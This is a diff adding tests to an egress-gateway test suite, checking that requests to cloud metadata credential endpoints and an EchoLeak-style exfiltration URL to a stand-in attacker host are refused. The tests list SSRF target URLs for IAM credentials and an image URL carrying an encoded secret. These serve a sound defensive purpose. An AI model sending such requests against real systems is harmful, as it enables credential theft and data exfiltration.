@@ -408,6 +408,38 @@ describe('P3: a name leads where it may lead', () => {
   });
 });
 
+describe('incidents, through the wire', () => {
+  const fetchOf = async (url: string): Promise<string> => {
+    const { stdout, stderr } = await curl(['--proxy', await gateway.proxyUrl(), '-i', url]);
+    return stdout + stderr;
+  };
+
+  it.each([
+    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+    'http://[::ffff:169.254.169.254]/latest/meta-data/',
+    'http://[fd00:ec2::254]/latest/meta-data/',
+    'http://100.100.100.200/latest/meta-data/',
+    'http://metadata.google.internal/computeMetadata/v1/',
+  ])('P3: MarkItDown, a tool that fetches what it is told to, gets nothing of %s', async (url) => {
+    answers = [['169.254.169.254']];
+    expect(await fetchOf(url)).toMatch(/^HTTP\/1\.1 403 [^]*ERR_HTTP_DESTINATION/);
+    expect(lookups).toEqual([]);
+    const refused = gateway.records().findLast(({ type }) => type === 'destination.refused');
+    expect(refused).toMatchObject({
+      destination: expect.stringContaining(':80'),
+      principal: { subject: 'agent-1' },
+    });
+  });
+
+  it('P3: EchoLeak, a picture whose address is the secret, is not fetched from anywhere but where it may be', async () => {
+    const secret = Buffer.from('the secret').toString('base64url');
+    expect(await fetchOf(`https://attacker.test/x.png?d=${secret}`)).toContain('response 403');
+    expect(await fetchOf(`http://attacker.test/x.png?d=${secret}`)).toMatch(/^HTTP\/1\.1 403 /);
+    expect(JSON.stringify(gateway.records())).not.toContain(secret);
+    expect(lookups).toEqual([]);
+  });
+});
+
 describe('P10: what is no tunnel, or is slow', () => {
   it('data behind a refused CONNECT is no request', async () => {
     const refused = await connectHead(gateway, 'nowhere.test:443');
